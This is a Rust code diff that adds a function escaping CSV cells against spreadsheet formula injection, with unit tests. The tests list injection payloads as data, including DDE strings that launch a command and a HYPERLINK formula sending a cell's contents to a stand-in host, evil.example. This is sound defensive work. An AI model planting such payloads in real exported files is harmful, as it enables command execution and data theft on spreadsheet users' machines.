@@ -93,3 +93,40 @@ mod tests {
         assert_eq!(v.winner(), None, "a tie between A and B is no preference");
     }
 }
+
+/// A CSV cell as a spreadsheet will not run it: text that a spreadsheet would read as a formula
+/// (first character `=`, `+`, `-` or `@` after leading blanks, or a leading tab or carriage
+/// return, OWASP's list) gets a leading `'`, which spreadsheets show as text. Numbers stay
+/// numbers (`-0.25` is not a formula), so numeric columns keep their values. Every CSV the
+/// server writes and every CSV the browser offers passes its cells through here: a rater's
+/// rationale or a name typed by anyone is otherwise a formula in the admin's spreadsheet.
+pub fn csv_cell(text: &str) -> std::borrow::Cow<'_, str> {
+    let trimmed = text.trim_start_matches([' ', '\u{a0}']);
+    let risky = text.starts_with(['\t', '\r']) || trimmed.starts_with(['=', '+', '-', '@']);
+    if risky && text.trim().parse::<f64>().is_err() { format!("'{text}").into() } else { text.into() }
+}
+
+#[cfg(test)]
+mod csv_tests {
+    use super::csv_cell;
+
+    #[test]
+    fn formulas_are_neutralised_and_numbers_kept() {
+        for attack in [
+            "=cmd|' /C calc'!A0",
+            "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+            "  =1+1",
+            "\t=1+1",
+            "\r=1+1",
+            "\tplain after a tab",
+        ] {
+            assert_eq!(csv_cell(attack), format!("'{attack}"), "{attack:?}");
+        }
+        for safe in ["-0.25", "+1", "12", "plain text", "a = b", "", "x@example.com", "1e-3", " -3 "] {
+            assert_eq!(csv_cell(safe), safe, "{safe:?}");
+        }
+    }
+}
